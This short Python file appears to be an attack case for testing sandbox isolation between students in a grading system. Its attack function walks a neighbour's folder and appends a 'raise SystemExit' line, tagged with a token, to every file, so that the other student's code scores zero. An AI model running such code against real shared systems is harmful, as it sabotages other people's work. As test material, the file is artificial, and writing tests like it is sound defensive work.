"""Change another student's code so that it scores zero."""
import os

DEFENCE = "isolation"


def attack(t):
    os.listdir(t["neighbour"])  # os.walk is silent about a folder it cannot see
    for folder, _, files in os.walk(t["neighbour"]):
        for name in files:
            with open(os.path.join(folder, name), "a") as f:
                f.write(f"\nraise SystemExit  # {t['token']}\n")
    return ""
